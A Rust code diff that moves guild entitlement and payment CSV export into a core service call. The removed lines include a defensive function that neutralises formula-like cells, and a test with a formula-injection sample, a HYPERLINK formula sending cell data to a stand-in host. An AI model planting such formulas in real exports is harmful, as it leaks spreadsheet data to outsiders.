@@ -3,8 +3,8 @@
 
 use docobo_adapters::seaorm::SeaOrmRepo;
 use docobo_core::domain::{Entitlement, EntitlementId, GuildId, RoleJobKey};
-use docobo_core::ports::{AuditLog, EntitlementRepo, PaymentLog, SystemClock};
-use docobo_core::service::{ManualError, grant_manually, revoke_manually};
+use docobo_core::ports::{AuditLog, EntitlementRepo, SystemClock};
+use docobo_core::service::{ManualError, export_table, grant_manually, revoke_manually};
 use serde_json::{Value, json};
 
 use crate::args::{ExportData, ExportFormat, ManualArgs};
@@ -91,74 +91,19 @@ pub async fn export(
 ) -> Result<(), Failure> {
     let ExportFormat::Csv = format;
     registered(repo, guild).await?;
-    match data {
-        ExportData::Entitlements => {
-            const COLUMNS: [&str; 10] = [
-                "id",
-                "guild_id",
-                "user_id",
-                "role_id",
-                "provider",
-                "external_ref",
-                "status",
-                "access_until",
-                "created_at",
-                "updated_at",
-            ];
-            let rows: Vec<Value> =
-                repo.guild_entitlements(guild).await?.iter().map(entitlement_json).collect();
-            write_csv(&COLUMNS, &rows)
-        }
-        ExportData::Payments => {
-            const COLUMNS: [&str; 8] =
-                ["provider", "reference", "user_id", "role_id", "amount", "refunded", "currency", "paid_at"];
-            let rows: Vec<Value> = repo
-                .payments(guild)
-                .await?
-                .iter()
-                .map(|p| {
-                    json!({
-                        "provider": p.provider, "reference": p.reference, "user_id": p.user, "role_id": p.role,
-                        "amount": p.amount.amount(), "refunded": p.refunded.amount(),
-                        "currency": p.amount.currency.code(), "paid_at": time_text(Some(p.paid_at)),
-                    })
-                })
-                .collect();
-            write_csv(&COLUMNS, &rows)
-        }
-    }
-}
-
-/// `cell` as a spreadsheet will show it, never run it: text a provider sent (a SePay transaction
-/// id, say) that starts like a formula gets a leading `'`.
-fn inert(cell: &str) -> String {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell.to_owned() }
-}
-
-/// Writes `rows` (objects with the keys of `columns`) as CSV on stdout; null is an empty cell.
-fn write_csv(columns: &[&str], rows: &[Value]) -> Result<(), Failure> {
-    let progress = indicatif::ProgressBar::new(rows.len() as u64);
+    let data = match data {
+        ExportData::Entitlements => docobo_core::service::ExportData::Entitlements,
+        ExportData::Payments => docobo_core::service::ExportData::Payments,
+    };
+    let table = export_table(repo, guild, data).await?;
+    let progress = indicatif::ProgressBar::new(table.rows.len() as u64);
     let mut out = csv::Writer::from_writer(std::io::stdout().lock());
-    out.write_record(columns)?;
-    for row in rows {
-        out.write_record(columns.iter().map(|c| match &row[*c] {
-            Value::Null => String::new(),
-            Value::String(s) => inert(s),
-            other => other.to_string(),
-        }))?;
+    out.write_record(table.columns)?;
+    for row in &table.rows {
+        out.write_record(row)?;
         progress.inc(1);
     }
     out.flush()?;
     progress.finish_and_clear();
     Ok(())
-}
-
-#[cfg(test)]
-mod tests {
-    #[test]
-    fn l3_cells_that_start_like_formulas_are_exported_as_text() {
-        assert_eq!(super::inert("=HYPERLINK(\"http://x/\"&B2)"), "'=HYPERLINK(\"http://x/\"&B2)");
-        assert_eq!(super::inert("@SUM(A1)"), "'@SUM(A1)");
-        assert_eq!(super::inert("FT123"), "FT123");
-    }
 }
